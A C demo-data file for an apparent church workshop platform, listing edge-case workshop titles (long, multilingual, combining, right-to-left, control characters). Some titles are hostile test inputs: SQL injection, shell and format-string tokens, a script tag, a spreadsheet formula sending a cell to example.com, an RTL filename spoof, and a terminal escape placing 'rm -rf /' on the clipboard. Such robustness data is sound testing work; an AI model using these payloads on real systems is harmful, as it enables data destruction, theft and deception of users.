/* Workshops of the demo data that belong to no series: some for the story, the rest to show what a title may be. */
#include "db/demo_private.h"

static const struct single {
    const char *title;
    const char *host;     /* NULL: one of the hosts */
    const char *category; /* NULL: none */
    int hours;            /* from now */
    int minutes, capacity, guests;
} singles[] = {
    {"Early birds", "cruz", "prayer", 4, 45, 0, 5},
    {"Christmas choir: sign up", "ben", "worship", 330, 120, 60, 28},
    {"Why we baptise: an evening of questions", "marie", "newcomers", 172, 90, 0, 16},
    {"Couples’ retreat (day 1)", "ana", "marriage", 505, 480, 24, 24},
    {"Couples’ retreat (day 2)", "ana", "marriage", 529, 480, 24, 23},
    {"Neighbourhood meal, no programme", NULL, NULL, 98, 0, 0, 9},
    {"Test, please ignore", "tomas", NULL, 51, 15, 1, 1},
    {"Testimonies", "cruz", "healing", 122, 60, 30, 12},
    {"Letters to prisoners", "walt", "prayer", 125, 60, 15, 6}, /* its host's account is not active */
    /* long and wide */
    {"A very long title that somebody has pasted from the first paragraph of a newsletter without looking,"
     " which goes on and on until it has filled all of the two hundred characters that the platform allows",
     NULL, "bible-study", 63, 60, 40, 11},
    {"毎週の夜の集いです。仕事の帰り道でも、台所に立ったままでも、どうぞそのままの姿で加わってください。は"
     "じめに短い歌を聞き、それから一人ずつ今週うれしかったことを話します。話したくない人は聞いているだけで"
     "かまいません。終わりに皆のために静かに祈り、名前を呼んで送り出します。途中で抜けても、遅れて来ても、"
     "だれも責めません。カメラは消したままで大丈夫です。初めての方は、あらかじめ主催者に一言お知らせくださ",
     "keiko", "inori", 87, 60, 0, 7},
    {"ＦＵＬＬＷＩＤＴＨ ａｎｄ ﾊﾝｶｸ", "keiko", "inori", 110, 60, 12, 5},
    {"👩‍👩‍👧‍👦 Families’ hour 🇵🇭🇰🇷 👍🏽", "grace", "prayer", 75, 60, 0, 14},
    {"ประชุมอธิษฐาน กำลังใจ", NULL, "prayer", 140, 60, 0, 4},
    {"प्रार्थना सभा: क्षमा", "anjali", "prayer", 141, 60, 0, 4},
    /* combining */
    {"Pha\xcc\x82n ti\xcc\x81"
     "ch Kinh Tha\xcc\x81nh: A\xcc\x83 thu\xcc\x9b\xcc\x81 hai",
     NULL, "bible-study", 150, 60, 0, 6},
    {"Z\xcc\x80\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85\xcc\x86\xcc\x87"
     "a\xcc\x88\xcc\x89\xcc\x8a\xcc\x8b\xcc\x8c"
     "l\xcd\x80\xcd\x81\xcd\x82\xcd\x83g\xcc\xb4\xcc\xb5\xcc\xb6o night",
     NULL, NULL, 151, 60, 0, 2},
    {"\xcc\x81 starts with a combining accent", NULL, NULL, 152, 60, 0, 2},
    /* right to left */
    {"صلاة مشتركة (Open prayer) 2026", "amina", "prayer", 153, 45, 20, 5},
    {"ערב פתוח: שאלות ותשובות", "yael", "bible-study", 154, 45, 20, 5},
    {"Photos \xe2\x80\xaegpj.exe and \xe2\x81\xa6isolates\xe2\x81\xa9", NULL, NULL, 155, 45, 0, 2},
    /* control characters */
    {"\x1b[2J\x1b[1;1H\x1b[31mCleared your screen\x1b[0m", NULL, NULL, 156, 45, 0, 3},
    {"\x1b]0;new window title\x07\x1b]52;c;cm0gLXJmIC8=\x07 clipboard", NULL, NULL, 157, 45, 0, 1},
    {"C1 \xc2\x9b"
     "31m and DEL \x7f and BEL \x07",
     NULL, NULL, 158, 45, 0, 1},
    {"First line\nsecond line\tand a tab\r\rovertyped", NULL, NULL, 159, 45, 0, 2},
    {"Line\xe2\x80\xa8separator\xc2\x85next\x0bline", NULL, NULL, 160, 45, 0, 1},
    {"Ad\xe2\x80\x8bmin\xe2\x80\x8d on\xef\xbb\xbfly\xc2\xad \xe2\x80\x8e", NULL, NULL, 161, 45, 0, 1},
    {"Private \xee\x80\x80 use, tag \xf3\xa0\x81\xa1, nonchar \xef\xbf\xbe", NULL, NULL, 162, 45, 0, 1},
    /* what other programs would run */
    {"Robert'); DROP TABLE workshops;-- \\' \" `", NULL, "prayer", 163, 45, 0, 3},
    {"100%_off\\%: %s%n%d {u.status} ${HOME} $(id)", NULL, NULL, 164, 45, 0, 3},
    {"=HYPERLINK(\"http://example.com/?\"&A1,\"click\")", NULL, NULL, 165, 45, 0, 1},
    {"<script>alert(1)</script> &amp; <b>bold</b>", NULL, NULL, 166, 45, 0, 1},
    {"-1", NULL, NULL, 167, 45, 0, 1},
    {"NULL", NULL, NULL, 168, 45, 0, 1},
    {"   ", NULL, NULL, 169, 45, 0, 1},
    /* what is over */
    {"Autumn fair: thank you evening", "marie", "newcomers", -400, 90, 0, 33},
    {"Emergency prayer for the coast", "grace", "prayer", -100, 60, 0, 75},
    {"Open mic\n(recorded)", "ben", "worship", -260, 120, 50, 26},
    {"Cruz & friends", "cruz", "healing", -150, 90, 40, 37},
};

void demo_add_singles(struct demo *d) {
    static const char *const hosts[] = {"marie", "ben", "grace", "sue", "rio", "jonas", "paulo"};
    for (size_t i = 0; i < sizeof singles / sizeof *singles; i++) {
        const struct single *s = &singles[i];
        struct demo_workshop *w = demo_new_workshop(d);
        int64_t at = d->now + (int64_t)s->hours * DEMO_HOUR;
        w->category = demo_category(s->category);
        w->host = demo_person(s->host ? s->host : hosts[i % (sizeof hosts / sizeof *hosts)]);
        w->title = s->title;
        w->description = i % 2 ? s->title : NULL; /* descriptions are shown too */
        w->scheduled = at - at % (30 * DEMO_MINUTE);
        w->minutes = s->minutes;
        w->capacity = s->capacity;
        w->guests = s->guests;
        demo_settle_workshop(d, w);
    }
}
